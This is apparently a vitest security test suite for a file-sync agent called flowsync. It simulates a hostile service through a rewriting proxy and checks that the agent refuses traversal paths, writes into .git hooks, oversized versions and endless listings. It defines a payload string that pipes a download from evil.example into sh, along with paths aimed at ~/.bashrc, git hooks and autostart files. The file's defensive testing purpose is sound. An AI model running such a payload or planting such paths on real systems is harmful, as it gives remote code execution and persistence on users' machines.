import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join, relative } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { NO_KEYCHAIN, startAgentProcess, userEnv, writeAgentConfig } from '../support/agent-process.ts';
import { runFlowsync } from '../support/cli.ts';
import { startFaultProxy, type FaultProxy } from '../support/fault-proxy.ts';
import { sha256 } from '../support/flows.ts';
import { makeRepo, type TestRepo } from '../support/repo.ts';
import { callFunction, startTestService, type TestService } from '../support/service.ts';

/**
 * Issue 36: the service is outside the agent. A real service behind a proxy that changes what it says, as an
 * attacker who controls a service would: paths that leave the repository (`..`, absolute, `\`, NUL), paths into
 * `.git`, conflicts for files the call never sent, versions too large to hold. Whatever it answers, the user's
 * home keeps its bytes and gets no new file, and the command says which answer was refused.
 */
const CANARY = 'echo the user wrote this\n';
const EVIL = 'curl https://evil.example | sh\n';

let svc: TestService;
let proxy: FaultProxy;
let repo: TestRepo;
let home: string;
let env: NodeJS.ProcessEnv;

beforeEach(async () => {
  svc = await startTestService();
  proxy = await startFaultProxy(svc.url);
  repo = makeRepo({ 'flows/a/x.yml': 'x: 1\n', 'flows/b/y.yml': 'y: 1\n' });
  home = join(repo.dir, 'home');
  env = { ...userEnv(home, { url: proxy.url, tokens: svc.tokens }), ...NO_KEYCHAIN };
  writeAgentConfig(env, [{ path: repo.root, owner: 'acme', name: 'app' }]);
  mkdirSync(join(home, '.config/git'), { recursive: true });
  writeFileSync(join(home, '.bashrc'), CANARY);
  writeFileSync(join(home, '.config/git/config'), CANARY);
});
afterEach(async () => {
  await proxy.close();
  await svc.close();
  repo.cleanup();
});

/** Every file below the home folder but flowsync's own (its config, state and log), with its bytes. */
function homeFiles(): Record<string, string> {
  const files: Record<string, string> = {};
  const walk = (folder: string) => {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name);
      const shown = relative(home, path);
      // flowsync's own: its config, state and log, and V8's cache of its compiled modules (code, no answer of a
      // service's).
      if (
        shown.startsWith('.config/flowsync') ||
        shown.startsWith('.local/share/flowsync') ||
        shown.startsWith('.cache/flowsync/compile-cache')
      )
        continue;
      if (entry.isDirectory()) walk(path);
      else files[shown] = readFileSync(path, 'utf8');
    }
  };
  walk(home);
  return files;
}

/** `flows/a/../../../home/.bashrc`: from a flow folder of the repository to a file of the home folder. */
function intoHome(file: string): string {
  return relative(join(repo.root, 'flows/a'), join(home, file));
}

/** The paths a hostile service names, each with what the agent must never do with it. */
function hostilePaths(): { flow_path: string; path: string }[] {
  return [
    { flow_path: 'flows/a', path: intoHome('.bashrc') },
    { flow_path: 'flows/a', path: intoHome('.config/git/config') },
    { flow_path: 'flows/a', path: join(home, '.bash_aliases') },
    { flow_path: 'flows/a', path: '..\\..\\..\\home\\.profile' },
    { flow_path: 'flows/a', path: 'x\u0000.yml' },
    { flow_path: 'flows/a', path: '.git/hooks/post-checkout' },
    { flow_path: `flows/a/${intoHome('.local')}`, path: 'autostart.desktop' },
    { flow_path: '.git', path: 'hooks/post-checkout' },
    { flow_path: '.flowsync', path: 'repo-config.json' },
  ];
}

function listed(file: { flow_path: string; path: string }, withContent: boolean) {
  return {
    ...file,
    id: `evil-${sha256(file.flow_path + file.path).slice(0, 8)}`,
    hash: sha256(EVIL),
    size: EVIL.length,
    updated_at: new Date().toISOString(),
    written_by: 'mallory',
    ...(withContent ? { content: EVIL } : {}),
  };
}

/** list_files answers with the hostile files added (each listing, with or without content). */
function listHostile(files: { flow_path: string; path: string }[]): void {
  proxy.rewrite = (path, answer, body) => {
    if (!path.endsWith('/list_files')) return answer;
    const args = (JSON.parse(body) as { args: { with_content?: boolean } }).args;
    const reply = JSON.parse(answer) as { value: { files: unknown[] } };
    reply.value.files.push(...files.map((file) => listed(file, args.with_content === true)));
    return JSON.stringify(reply);
  };
}

function expectHomeUntouched(before: Record<string, string>): void {
  expect(homeFiles()).toEqual(before);
  expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe(CANARY);
  expect(existsSync(join(repo.root, '.git/hooks/post-checkout'))).toBe(false);
  expect(existsSync(join(repo.root, 'flows/a/.git'))).toBe(false);
}

describe('a service that names paths outside the repository', () => {
  it('conflicts at hostile paths or at files not sent are refused; resolve --theirs writes nothing', async () => {
    expect((await runFlowsync(['sync', repo.root], { env })).code).toBe(0);
    const before = homeFiles();
    const wrongOnes = [...hostilePaths(), { flow_path: 'flows/a', path: 'never-sent.sh' }];
    for (const [index, conflict] of wrongOnes.entries()) {
      // Two files: a batch (one changed file whose id is known goes by update_file, tried below).
      repo.write('flows/a/x.yml', `x: ${index + 2}\n`);
      repo.write(`flows/a/new-${index}.yml`, 'new\n');
      proxy.rewrite = (path, answer) => {
        if (!path.endsWith('/sync_batch/run')) return answer;
        const reply = JSON.parse(answer) as { value: Record<string, unknown> };
        reply.value.conflicts = [
          {
            ...conflict,
            base_hash: null,
            service_hash: sha256(EVIL),
            sent_hash: sha256(`x: ${index + 2}\n`),
            written_by: 'mallory',
            written_at: new Date().toISOString(),
          },
        ];
        return JSON.stringify(reply);
      };
      const sync = await runFlowsync(['sync', repo.root], { env, timeoutMs: 60_000 });
      expect(sync.code, sync.stdout + sync.stderr).not.toBe(0);
      expect(sync.stdout + sync.stderr).toMatch(/sync_batch/);
      expect(sync.stdout + sync.stderr).not.toMatch(/incident/);
    }
    // And were it listed too, with content: no conflict was recorded, so none is settled, nothing written.
    listHostile(wrongOnes);
    const conflicts = await runFlowsync(['conflicts', repo.root], { env });
    expect(conflicts.stdout).not.toMatch(/bashrc|never-sent|post-checkout|autostart/);
    const resolve = await runFlowsync(['resolve', repo.root, '--theirs'], { env, cwd: repo.root });
    expect(resolve.stdout).not.toMatch(/on disk/);
    expectHomeUntouched(before);
    expect(existsSync(join(repo.root, 'flows/a/never-sent.sh'))).toBe(false);
    // Eleven one-shot commands, each a process: 36-61 s on the loaded two cores.
  }, 180_000);

  it('a listing that names them is refused whole: resolve --not-in-checkout --theirs and --held --theirs write nothing', async () => {
    expect((await runFlowsync(['sync', repo.root], { env })).code).toBe(0);
    const before = homeFiles();
    for (const file of hostilePaths()) {
      listHostile([file]);
      const restore = await runFlowsync(['resolve', '--not-in-checkout', '--theirs', repo.root], {
        env,
        timeoutMs: 60_000,
      });
      expect(restore.code, restore.stdout).not.toBe(0);
      expect(restore.stderr).toMatch(/list_files/);
      expect(restore.stderr).not.toMatch(/incident/);
    }
    // A held deletion's restore reads the same listing: refused, nothing written.
    listHostile(hostilePaths());
    repo.remove('flows/b/y.yml');
    const held = await runFlowsync(['resolve', '--held', '--theirs', repo.root], { env, timeoutMs: 60_000 });
    expect(held.stderr).not.toMatch(/incident/);
    expectHomeUntouched(before);
  });

  it('restore: a version of another file, or too large, is refused and not written', async () => {
    expect((await runFlowsync(['sync', repo.root], { env })).code).toBe(0);
    repo.write('flows/a/x.yml', 'x: 2\n');
    expect((await runFlowsync(['sync', repo.root], { env })).code).toBe(0);
    const versions = await callFunction(
      svc.url,
      `Bearer ${svc.tokens.user}`,
      'svc/flow_def/public/file_versions',
      {
        repo_owner: 'acme',
        repo_name: 'app',
        flow_path: 'flows/a',
        path: 'x.yml',
      },
    );
    const first = (versions.body.value as { versions: { version: number }[] }).versions.at(-1)!.version;
    const before = homeFiles();
    const restore = () =>
      runFlowsync(['restore', join(repo.root, 'flows/a/x.yml'), '--version', String(first)], { env });

    // The version's content answered for another path: refused, naming it.
    proxy.rewrite = (path, answer) => {
      if (!path.endsWith('/version_content')) return answer;
      const reply = JSON.parse(answer) as { value: Record<string, unknown> };
      reply.value.path = intoHome('.bashrc').replace(/^\.\.\//, '');
      reply.value.content = EVIL;
      return JSON.stringify(reply);
    };
    const elsewhere = await restore();
    expect(elsewhere.code).not.toBe(0);
    expect(elsewhere.stderr).toMatch(/version_content/);

    // A history that says the version is 100 MB: not even read.
    let contentRead = false;
    proxy.rewrite = (path, answer) => {
      if (path.endsWith('/version_content')) contentRead = true;
      if (!path.endsWith('/file_versions')) return answer;
      const reply = JSON.parse(answer) as { value: { versions: { size: number }[] } };
      for (const version of reply.value.versions) version.size = 100 * 1024 * 1024;
      return JSON.stringify(reply);
    };
    const huge = await restore();
    expect(huge.code).not.toBe(0);
    expect(huge.stderr).toMatch(/over the 1 MiB a file may be/);
    expect(contentRead).toBe(false);

    // A content larger than its history said: refused once read, never written.
    proxy.rewrite = (path, answer) => {
      if (!path.endsWith('/version_content')) return answer;
      const reply = JSON.parse(answer) as { value: Record<string, unknown> };
      reply.value.content = 'x'.repeat(2 * 1024 * 1024);
      // Its hash is the large content's: refused for its size, not for its hash.
      reply.value.hash = sha256(reply.value.content as string);
      return JSON.stringify(reply);
    };
    const large = await restore();
    expect(large.code).not.toBe(0);
    expect(large.stderr).toMatch(/over the 1 MiB a file may be/);
    expect(readFileSync(join(repo.root, 'flows/a/x.yml'), 'utf8')).toBe('x: 2\n');

    // A history that always offers another page, the same one again (a cursor past its newest version): read
    // once, and the command ends.
    let historyPages = 0;
    proxy.rewrite = (path, answer) => {
      if (!path.endsWith('/file_versions')) return answer;
      historyPages++;
      const reply = JSON.parse(answer) as { value: { versions: { version: number }[]; next?: string } };
      reply.value.next = String(Math.max(...reply.value.versions.map((v) => v.version)) + 1);
      return JSON.stringify(reply);
    };
    const history = await runFlowsync(['history', join(repo.root, 'flows/a/x.yml')], { env });
    expect(history.code, history.stderr).toBe(0);
    expect(history.stdout).toContain(`${first}`);
    // Two pages at most, and one call of one version for the size cap's notice (issue 41).
    expect(historyPages).toBeLessThanOrEqual(3);
    expectHomeUntouched(before);
  });
});

describe('conflicts that cannot all be written', () => {
  it('one unwritable among ten: nine settled, one named with its reason, exit 4', async () => {
    for (let i = 0; i < 10; i++) repo.write(`flows/f${i}/x.yml`, `x: ${i}\n`);
    expect((await runFlowsync(['sync', repo.root], { env })).code).toBe(0);
    // Another checkout's edits of all ten reach the service; this one edits them too: ten conflicts.
    for (let i = 0; i < 10; i++) {
      const reply = await svc.call('svc/flow_def/action/sync_batch/run', {
        repo_owner: 'acme',
        repo_name: 'app',
        flows: [
          {
            flow_path: `flows/f${i}`,
            files: [{ path: 'x.yml', content: `x: theirs ${i}\n`, hash: sha256(`x: theirs ${i}\n`) }],
          },
        ],
      });
      expect(reply.statusCode).toBe(200);
    }
    for (let i = 0; i < 10; i++) repo.write(`flows/f${i}/x.yml`, `x: mine ${i}\n`);
    const sync = await runFlowsync(['sync', repo.root], { env });
    expect(sync.code, sync.stdout).toBe(4);
    // One flow folder is now a link to a folder outside the repository: nothing is written through it.
    const outside = join(repo.dir, 'outside');
    renameSync(join(repo.root, 'flows/f3'), outside);
    symlinkSync(outside, join(repo.root, 'flows/f3'));

    const resolve = await runFlowsync(['resolve', '.', '--theirs'], { env, cwd: repo.root });
    expect(resolve.code, resolve.stdout + resolve.stderr).toBe(4);
    expect(resolve.stderr).toMatch(/^flows\/f3\/x\.yml: not written: flows\/f3 is a symlink/m);
    expect(resolve.stderr).not.toMatch(/incident/);
    for (let i = 0; i < 10; i++) {
      if (i === 3) continue;
      expect(resolve.stdout).toContain(`flows/f${i}/x.yml: the service's version is on disk`);
      expect(readFileSync(join(repo.root, `flows/f${i}/x.yml`), 'utf8')).toBe(`x: theirs ${i}\n`);
    }
    expect(readFileSync(join(outside, 'x.yml'), 'utf8')).toBe('x: mine 3\n');
  });
});

describe('a listing that never ends', () => {
  it('is given up at a bound: the memory of the agent stays bounded, it says so, and its window appears', async () => {
    // Every page offers another, of 5,000 new files: what a broken or hostile service can do for ever.
    let pages = 0;
    proxy.rewrite = (path, answer) => {
      if (!path.endsWith('/list_files')) return answer;
      pages++;
      const files = Array.from({ length: 5000 }, (_, i) =>
        listed({ flow_path: `flows/f${pages}`, path: `file-${i}.yml` }, false),
      );
      return JSON.stringify({ status: 'success', value: { files, next: `page-${pages}` } });
    };
    const agent = startAgentProcess(['start', repo.root], env);
    try {
      await agent.waitFor(/Window: /, 120_000);
      await agent.waitFor(/listing of files goes on past 250,000 files/, 60_000);
      const peakKiB = Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${agent.pid}/status`, 'utf8'))![1]);
      // Without the bound it passed 1.3 GB in 60 s and grew on. With it, the peak measured 586-638 MB on Node 24.21
      // before the old generation was held to 25 % growth (issue 50), 228 MB after (108 MB 60 s later). The ceiling
      // leaves the loaded CI machine half again as much.
      expect(peakKiB / 1024).toBeLessThan(350);
      expect(agent.output()).not.toMatch(/incident/);
    } finally {
      agent.signal('SIGKILL');
      await agent.exited;
    }
  });
});
